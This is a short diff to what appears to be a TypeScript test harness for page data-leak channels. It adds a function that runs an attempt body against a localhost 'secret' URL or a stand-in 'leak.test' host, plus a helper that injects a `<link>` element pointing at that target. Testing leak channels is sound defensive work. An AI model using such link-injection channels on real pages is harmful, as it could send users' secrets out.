@@ -9,6 +9,13 @@ export interface Attempt {
   leaves?: true;
 }
 
+/** The code that tries one of them, and answers how it went: a refusal, `waits`, or `done`, which says nothing of whether a byte got out. */
+export const codeOf = (body: string, index: number, port: number) => `(async () => {
+  const port = ${port}, to = 'http://127.0.0.1:${port}/secret-${index}', host = 'secret-${index}.leak.test';
+  const work = (async () => { ${body} })().then(() => 'done', (e) => String(e));
+  return Promise.race([work, new Promise((r) => setTimeout(r, 500, 'waits'))]);
+})()`;
+
 const link = (rel: string, extra = '') =>
   `const l = document.createElement('link'); l.rel = '${rel}'; l.href = to; ${extra}; document.head.append(l)`;
 
